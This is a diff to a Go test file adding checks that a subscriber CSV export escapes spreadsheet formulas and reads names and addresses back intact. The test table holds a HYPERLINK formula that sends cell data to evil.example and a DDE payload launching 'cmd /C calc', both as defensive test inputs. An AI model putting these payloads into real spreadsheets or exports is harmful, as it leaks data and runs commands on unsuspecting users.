@@ -2,6 +2,7 @@ package subscriber
 
 import (
 	"bytes"
+	"encoding/csv"
 	"os"
 	"path/filepath"
 	"slices"
@@ -258,5 +259,102 @@ func TestSampleSubscribers(t *testing.T) {
 	}
 	if immediate < 2 {
 		t.Errorf("sample list has %d immediate subscribers, want at least 2", immediate)
+	}
+}
+
+// sameSubscriber compares what an export carries (not where a row was read).
+func sameSubscriber(a, b Row) bool {
+	return a.Email == b.Email && a.Name == b.Name && slices.Equal(a.Topics, b.Topics) && a.Cadence == b.Cadence
+}
+
+// exportedCells reads an export back with encoding/csv alone: the cells as a
+// spreadsheet sees them.
+func exportedCells(t testing.TB, data []byte) [][]string {
+	t.Helper()
+	recs, err := csv.NewReader(bytes.NewReader(data)).ReadAll()
+	if err != nil {
+		t.Fatalf("export is not CSV: %v", err)
+	}
+	return recs
+}
+
+func TestExportEscapesFormulas(t *testing.T) {
+	tests := []struct {
+		name     string // as stored (a web sign-up name, say)
+		wantCell string // as the spreadsheet gets it
+	}{
+		{`=HYPERLINK("https://evil.example/?x="&A2,"Click")`, `'=HYPERLINK("https://evil.example/?x="&A2,"Click")`},
+		{"+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"},
+		{"-2+3", "'-2+3"},
+		{"@SUM(1+1)", "'@SUM(1+1)"},
+		{"\t=1+1", "'\t=1+1"},
+		{"\r=1+1", "'\r=1+1"},
+		{"'=1+1", "''=1+1"},      // already escaped by hand: one more, so it reads back as written
+		{"''-x", "'''-x"},        // any run of apostrophes before a formula character
+		{"'t Hooft", "'t Hooft"}, // an apostrophe of the name's own is left alone
+		{"Ana = Petrova", "Ana = Petrova"},
+		{"Ana-Maria", "Ana-Maria"},
+		{"", ""},
+	}
+	for _, tt := range tests {
+		t.Run(tt.wantCell, func(t *testing.T) {
+			in := Row{Email: "reader@example.org", Name: tt.name, Cadence: Daily}
+			var buf bytes.Buffer
+			cw, err := NewCSVWriter(&buf)
+			if err != nil {
+				t.Fatal(err)
+			}
+			if err := cw.Write(in); err != nil {
+				t.Fatal(err)
+			}
+			if err := cw.Flush(); err != nil {
+				t.Fatal(err)
+			}
+			recs := exportedCells(t, buf.Bytes())
+			if len(recs) != 2 || recs[1][1] != tt.wantCell {
+				t.Fatalf("exported %q, want the name cell %q", recs, tt.wantCell)
+			}
+			// What the web form stores never reaches a list file, but an export
+			// read back by ParseCSV must give the name as it was (where ParseCSV
+			// accepts it at all: it refuses control characters).
+			out, problems := ParseCSV("export.csv", &buf, Daily)
+			if badCharacters(tt.name) != "" {
+				if len(out) != 0 || len(problems) != 1 {
+					t.Fatalf("a name with control characters read back as %+v, %v", out, problemStrings(problems))
+				}
+				return
+			}
+			if len(problems) != 0 || len(out) != 1 || !sameSubscriber(out[0], in) {
+				t.Fatalf("read back %+v with %v, want %+v", out, problemStrings(problems), in)
+			}
+		})
+	}
+}
+
+// Addresses may start with a formula character too ("-x@" and "+x@" are valid
+// local parts): the export escapes them and ParseCSV reads them back.
+func TestExportEscapesAddresses(t *testing.T) {
+	in := []Row{
+		{Email: "-news@example.org", Cadence: Weekly},
+		{Email: "+1@example.org", Cadence: Daily},
+		{Email: "=x@example.org", Cadence: Daily},
+	}
+	var buf bytes.Buffer
+	if err := WriteCSV(&buf, in); err != nil {
+		t.Fatal(err)
+	}
+	for i, rec := range exportedCells(t, buf.Bytes())[1:] {
+		if rec[0] != "'"+in[i].Email {
+			t.Errorf("address cell %q, want %q", rec[0], "'"+in[i].Email)
+		}
+	}
+	out, problems := ParseCSV("export.csv", &buf, Daily)
+	if len(problems) != 0 || len(out) != len(in) {
+		t.Fatalf("read back %+v with %v", out, problemStrings(problems))
+	}
+	for i := range in {
+		if !sameSubscriber(out[i], in[i]) {
+			t.Errorf("row %d: got %+v, want %+v", i, out[i], in[i])
+		}
 	}
 }
